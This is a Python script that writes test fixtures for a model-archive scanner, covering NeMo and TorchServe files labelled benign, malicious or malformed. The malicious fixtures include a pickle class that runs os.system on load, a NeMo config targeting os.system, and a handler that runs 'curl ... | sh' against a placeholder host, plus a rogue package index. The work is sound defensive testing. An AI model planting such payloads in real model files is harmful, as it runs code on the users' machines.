#!/usr/bin/env python3
"""Writes the packaging-format fixtures: NeMo archives (fixtures/nemo/), TorchServe .mar
(fixtures/torchserve/), and more as they come.

Needs Debian's python3-torch for the PyTorch checkpoints inside the archives. Every output is
deterministic (fixed times, no user names), so a regeneration that changes bytes is a real change.
The file name says the verdict FixtureCorpusTest expects: benign-*, malicious-*, malformed-*;
expected-rules.json lists the rule ids each fixture must produce.
"""
import gzip
import io
import json
import pickle
import tarfile
import zipfile
from pathlib import Path

import torch

ROOT = Path(__file__).resolve().parents[1] / "resources" / "fixtures"
MTIME = 1767225600  # 2026-01-01T00:00:00Z


def checkpoint():
    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save({"encoder.weight": torch.randn(4, 4), "encoder.bias": torch.zeros(4)}, buf)
    return buf.getvalue()


class Exec:
    """Pickles as a call of os.system, as a booby-trapped checkpoint does."""

    def __reduce__(self):
        import os
        return (os.system, ("id",))


def evil_checkpoint():
    buf = io.BytesIO()
    torch.save({"encoder.weight": torch.zeros(2), "trap": Exec()}, buf)
    return buf.getvalue()


def tar(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = MTIME
            info.uname = info.gname = ""
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


class Folder:
    def __init__(self, name):
        self.out = ROOT / name
        self.out.mkdir(parents=True, exist_ok=True)
        self.expected = {}

    def write(self, name, data, rules=()):
        (self.out / name).write_bytes(data)
        if rules:
            self.expected[name] = sorted(rules)

    def finish(self):
        (self.out / "expected-rules.json").write_text(
            json.dumps(self.expected, indent=2, sort_keys=True) + "\n")


NEMO_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.EncDecCTCModel
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  normalize: per_feature
  window_size: 0.025
encoder:
  _target_: nemo.collections.asr.modules.ConvASREncoder
  feat_in: 64
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 28
optim:
  name: adamw
  lr: 0.001
"""


def nemo():
    f = Folder("nemo")
    weights = checkpoint()
    f.write("benign-asr.nemo", tar([("./model_config.yaml", NEMO_CONFIG.encode()),
                                    ("./model_weights.ckpt", weights)]))
    f.write("benign-asr-gzipped.nemo", gzip.compress(
        tar([("./model_config.yaml", NEMO_CONFIG.encode()), ("./model_weights.ckpt", weights)]),
        mtime=0))
    evil = NEMO_CONFIG.replace(
        "decoder:\n",
        "callback:\n  _target_: os.system\n  _args_: ['curl -s https://example.invalid/x | sh']\n"
        "decoder:\n")
    f.write("malicious-target-os-system.nemo",
            tar([("./model_config.yaml", evil.encode()), ("./model_weights.ckpt", weights)]),
            ["NEMO-001"])
    f.write("malicious-target-gzipped.nemo", gzip.compress(
        tar([("./model_config.yaml", evil.encode()), ("./model_weights.ckpt", weights)]),
        mtime=0), ["NEMO-001"])
    custom = NEMO_CONFIG.replace("nemo.collections.asr.modules.ConvASRDecoder",
                                 "my_plugins.decoders.FancyDecoder")
    # An unknown module is only MEDIUM; the booby-trapped checkpoint makes the verdict.
    f.write("malicious-pickle-checkpoint.nemo",
            tar([("./model_config.yaml", custom.encode()),
                 ("./model_weights.ckpt", evil_checkpoint())]),
            ["NEMO-002", "PKL-001"])
    whole = tar([("./model_config.yaml", NEMO_CONFIG.encode()), ("./model_weights.ckpt", weights)])
    f.write("malformed-truncated.nemo", whole[: 512 + 1024 + 512 + 300])
    f.finish()


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def manifest(**model):
    m = {"modelName": "resnet", "modelVersion": "1.0", **model}
    return json.dumps({"createdOn": "01/01/2026 00:00:00", "runtime": "python", "model": m,
                       "archiverVersion": "0.12.0"}, indent=2).encode()


SAFE_HANDLER = b"""from ts.torch_handler.image_classifier import ImageClassifier


class Handler(ImageClassifier):
    topk = 3

    def postprocess(self, data):
        return [{"labels": row.argmax().item()} for row in data]
"""

EVIL_HANDLER = b"""import os
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def initialize(self, context):
        os.system("curl -s https://example.invalid/x | sh")
        super().initialize(context)
"""


def torchserve():
    f = Folder("torchserve")
    weights = checkpoint()
    f.write("benign-builtin-handler.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt")),
        ("model.pt", weights)]))
    f.write("malicious-handler-os-system.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="handler.py", serializedFile="model.pt")),
        ("model.pt", weights), ("handler.py", EVIL_HANDLER)]), ["MAR-001", "PY-002"])
    f.write("malicious-requirements-extra-index.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="custom_handler.py:handle",
                                           serializedFile="model.pt",
                                           requirementsFile="requirements.txt")),
        ("model.pt", weights), ("custom_handler.py", SAFE_HANDLER),
        ("requirements.txt", b"numpy==1.26.4\n--extra-index-url https://pypi.example.invalid/simple\n"
                             b"resnet-utils==0.1\n")]), ["MAR-001", "MAR-002", "MAR-003"])
    f.write("malicious-pickle-model.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt")),
        ("model.pt", evil_checkpoint())]), ["PKL-001"])
    f.write("malformed-manifest.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", b'{"model": {"handler": "image_classifier", '),
        ("model.pt", weights)]), ["MAR-004"])
    f.write("malformed-missing-model.mar", zip_bytes([
        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt"))]),
        ["MAR-004"])
    f.finish()


if __name__ == "__main__":
    nemo()
    torchserve()
